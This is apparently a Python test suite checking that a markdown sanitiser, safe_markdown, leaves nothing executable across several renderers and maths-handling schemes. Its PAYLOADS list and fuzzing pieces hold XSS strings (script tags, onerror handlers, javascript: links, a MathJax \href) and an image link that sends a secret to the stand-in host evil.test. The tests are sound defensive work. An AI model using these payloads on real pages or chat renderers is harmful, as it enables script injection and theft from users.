"""An answer as text/markdown does nothing in renderers that trust it, with maths or without."""

from __future__ import annotations

import html as entities
import re
from functools import partial
from typing import TYPE_CHECKING

import mistune
import pytest
from cmarkgfm import markdown_to_html_with_extensions
from cmarkgfm.cmark import Options
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from lxml import html
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from groq_magic.rendering import safe_markdown, to_html

if TYPE_CHECKING:
    from collections.abc import Callable

_TAGS = frozenset(
    """
    a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr img input li ol p pre s span strong
    table tbody td th thead tr ul
    """.split()  # noqa: SIM905 - words read best as words
)
_ATTRIBUTES = frozenset(
    "align alt checked class disabled href id lang rel src start style title type".split()  # noqa: SIM905
)
_DRAWN_CODE = re.compile(r"language-(?:mermaid|math|geojson|topojson|stl|plantuml|vega)")
# What links, loads or defines, where MathJax would find it: between dollars, not in code.
_ACTS = re.compile(r"\\(?:href|url|style|class|cssId|require|def|includegraphics|unicode)\b")
_MATHS = re.compile(r"\$.*?\$|\\\(.*?\\\)|\\\[.*?\\\]|\\begin\{.*?\\end\{", re.DOTALL)


def live(source: str) -> list[str]:
    """Return what in a renderer's HTML runs, loads, leads astray or acts."""
    if not source.strip():
        return []
    found: list[str] = []
    root = html.fragment_fromstring(source, create_parent="main")
    for element in root.iterdescendants():
        if element.tag not in _TAGS:
            found.append(f"element {element.tag}")
            continue
        found += [f"{name}={value}" for name, value in element.items() if _acts(name, value)]
    for element in root.iter("p", "li", "td", "th", "h1", "h2", "h3"):
        # MathJax leaves code out, and takes what is around it for two texts.
        texts = [element.text or "", *(child.tail or "" for child in element)]
        found += [m[0] for t in texts for m in _MATHS.finditer(t) if _ACTS.search(m[0])]
    return found


def _acts(name: str, value: str) -> bool:
    match name:
        case "href":
            return re.match(r"(?:https?://|mailto:|#)", value, re.IGNORECASE) is None
        case "src":
            return re.match(r"data:image/(?:png|jpeg|gif|webp);base64,", value) is None
        case "style":
            return re.fullmatch(r"text-align: ?(?:start|left|center|right);?", value) is None
        case "type":
            return value != "checkbox"
        case "class":
            return _DRAWN_CODE.search(value) is not None
        case _:
            return name not in _ATTRIBUTES


def _markdown_it(text: str) -> str:
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return str(parser.render(text))


def _cmark(text: str) -> str:
    extensions = ["table", "strikethrough", "autolink", "tasklist"]
    return str(markdown_to_html_with_extensions(text, Options.CMARK_OPT_UNSAFE, extensions))


def _mistune(text: str, *more: str) -> str:
    plugins = ["table", "strikethrough", "url", "task_lists", "footnotes", "def_list", *more]
    return str(mistune.create_markdown(escape=False, plugins=plugins)(text))


def _jupyterlab(render: Callable[[str], str], text: str) -> str:
    """Take maths out as JupyterLab does (rendermime's latex.ts), render, put it back escaped."""
    text = text.replace("~", "~T")
    fence = r"(?m)^(?P<fence>`{3,}|(?:~T){3,})[^`\n]*\n([\s\S]*?)^(?P=fence)`*$"
    for code in (fence, r"(?m)(^|[^\\])(`+)([^\n]*?[^`\n])\2(?!`)"):
        text = re.sub(code, lambda m: m[0].replace("$", "~D"), text)
    text, formulas = _without(
        r"(?s)(?<!\\)\$\$.*?(?<!\\)\$\$|(?<![\\$])\$(?:(?!\n\s*\n).)+?(?<!\\)\$"
        r"|\\\\\(.*?\\\\\)|\\\\\[.*?\\\\\]|\\begin\{([a-z]*\*?)\}.*?\\end\{\1\}",
        text,
    )
    page = render(text.replace("~D", "$").replace("~T", "~"))
    escaped = [entities.escape(each.replace("~D", "$")) for each in formulas]
    return _with(page, escaped)


def _maths_first(render: Callable[[str], str], text: str) -> str:
    """Take out all that may be maths, code in text not spared, and put it back as it is."""
    parts = re.split(r"(?ms)(^(?P<f>`{3,})[^\n]*\n.*?^(?P=f)$)", text)
    maths = r"(?s)\$\$.+?\$\$|\$[^$]+\$|\\\(.+?\\\)|\\\[.+?\\\]|\\begin\{.*?\\end\{\w*\}"
    formulas: list[str] = []
    for index in range(0, len(parts), 3):
        parts[index], found = _without(maths, parts[index], len(formulas))
        formulas += found
    del parts[2::3]
    return _with(render("".join(parts)), formulas)


def _without(maths: str, text: str, first: int = 0) -> tuple[str, list[str]]:
    formulas: list[str] = []

    def mark(found: re.Match[str]) -> str:
        formulas.append(found[0])
        return f"zqz{first + len(formulas) - 1}zqz"

    return re.sub(maths, mark, text), formulas


def _with(page: str, formulas: list[str]) -> str:
    return re.sub(r"zqz(\d+)zqz", lambda found: formulas[int(found[1])], page)


PLAIN: dict[str, Callable[[str], str]] = {
    "markdown-it": _markdown_it,
    "cmark": _cmark,
    "mistune": _mistune,
}
RENDERERS: dict[str, Callable[[str], str]] = {
    **PLAIN,
    "mistune with maths": lambda text: _mistune(text, "math"),
    "nbconvert": lambda text: str(markdown2html_mistune(text)),
    **{f"{name}, JupyterLab's maths": partial(_jupyterlab, each) for name, each in PLAIN.items()},
    **{f"{name}, maths first": partial(_maths_first, each) for name, each in PLAIN.items()},
}


def check(source: str) -> None:
    text = safe_markdown(source)
    for name, render in RENDERERS.items():
        found = live(render(text))
        assert not found, f"{name}: {found} in {text!r} of {source!r}"


PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![x](https://evil.test/?q=secret)",
    "[a](javascript:alert(1))",
    "<a href=javascript:alert(1)>x</a>",
    "\\href{javascript:alert(1)}{x}",
    "\\href{x}{y}\n<script>alert(1)</script>",
    "*a*{: onclick=alert(1)}",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
)
DELIMITERS = (
    *(("$", "$"), ("$$", "$$"), ("\\(", "\\)"), ("\\[", "\\]"), ("\\\\(", "\\\\)")),
    *(("\\begin{align}", "\\end{align}"), ("\\[\n", "\n\\]"), ("$$\n", "\n$$"), ("\\$", "\\$")),
    *(("`", "`"), ("``", "``"), ("`$`", "`$`"), ("`$$` ", " `$$`"), ("$`$", "$`$"), ("$ ", " $")),
    *(("```\n", "\n```\n"), ("```mermaid\n", "\n```\n"), ("- ```\n  ", "\n  ```\n")),
    *(("> ```\n> $$\n> ", "\n> ```\n"), ("    ", "\n"), ("[x](https://x.org/`", ") `")),
    *(("| a |\n|---|\n| `\\| ", "` |\n"), ("# `", "<br>`b`"), ("$x$ `", "`"), ("$x$5 `", "`")),
    *(("`` ` ``", "`` ` ``"), ("a\u2028", "\u2028b"), ("`a\x0b", "`"), ("&#10;&#10;", "")),
)
PIECES = (
    *(part for pair in DELIMITERS for part in pair),
    *PAYLOADS,
    *("\n", "\n\n", "text", " ", "- ", "1. ", "2. ", "> ", "| a | b |\n|---|---|\n", "|", "\\"),
    *("`", "```\n", "~~~\n", "  ", "[a]: javascript:alert(1)\n", "[a]", "](", "@@0@@", "<br>"),
    *("*", "**", "{", "<div>\n", "\\frac{a}{b}", "$x$", "$$x_1$$", "&lt;b&gt;", "~"),
    *('[x](https://x.org "`$")', "`<b>`", "`$HOME`", "```js\n`${a}` <b>\n```\n", "#", "=", "&"),
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_check_itself_sees_what_is_live(payload: str) -> None:
    source = f"${payload}$" if payload.startswith("\\href{javascript") else f"\n\n{payload}\n"
    if "{:" not in payload:
        assert live(_cmark(source))


@pytest.mark.parametrize("delimiters", DELIMITERS)
def test_payload_between_delimiters_does_nothing(delimiters: tuple[str, str]) -> None:
    before, after = delimiters
    for payload in PAYLOADS:
        for frame in ("a {} b", "- {}\n- b", "{0}\n\n| {0} |\n|---|\n| {0} |"):
            check(frame.replace("{}", "{0}").format(f"{before}{payload}{after}"))


@settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
@example("`$` ``x$`` `<img src=x onerror=alert(1)>`")
@example("[x](https://x.org/`) `<img src=x onerror=alert(1)>`")
@example("`$$`\n\n```\n$$\n<img src=x onerror=alert(1)>\n```\n")
def test_nothing_of_what_delimiters_and_payloads_make_is_live(source: str) -> None:
    check(source)


def test_no_payload_of_the_collection_is_live(payloads: dict[str, list[str]]) -> None:
    for family in payloads.values():
        for payload in family:
            check(payload)
            check(f"${payload}$ and `$`")


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("\\[\n\\href{x}{y}\n<b>\n\\]", "`\\href{x}{y} <b>`\n"),
        ("$![x](https://x.org/)$", "`![x](https://x.org/)`\n"),
        ("$f[0](x)$ and $a_1$", "f[0&#93;(x) and $a_1$\n"),
        ("`List<String>` is code", "`List<String>` is code\n"),
        ("`List<String>` and $x$", "List&lt;String&gt; and $x$\n"),
        ("`$HOME` and `ls`", "`$HOME` and `ls`\n"),
        ("```mermaid\na\n```", "```\na\n```\n"),
        ("costs $5, \\$6 and C:\\dir", "costs &#36;5, &#36;6 and C:`\\`dir\n"),
        ("C:\\dir", "C:&#92;dir\n"),
        ("- ```\n  $ <b>\n  ```", "- &#36; &lt;b&gt;\n"),
        ("[x](https://x.org/a_(b)?c=`)", "[x](https://x.org/a_%28b%29?c=%60)\n"),
    ],
)
def test_what_could_be_misread_is_written_otherwise(source: str, expected: str) -> None:
    assert safe_markdown(source) == expected


def test_ordinary_code_stays_code() -> None:
    source = "Call `f(x)`:\n\n```html\n<b>$5</b>\n```\n\n- ```cpp\n  vector<int> a;\n  ```\n"
    assert safe_markdown(source).count("```") == 4
    assert to_html(safe_markdown(source)) == to_html(source)
